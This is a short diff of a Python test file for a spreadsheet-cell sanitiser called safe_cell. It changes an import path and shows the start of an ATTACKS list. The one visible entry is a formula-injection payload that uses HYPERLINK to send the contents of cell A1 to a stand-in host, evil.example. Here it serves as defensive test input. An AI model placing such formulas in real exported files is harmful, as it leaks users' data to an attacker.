@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from bots.administration.cells import safe_cell
+from bots.registers.cells import safe_cell
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&A1;"Открыть")',
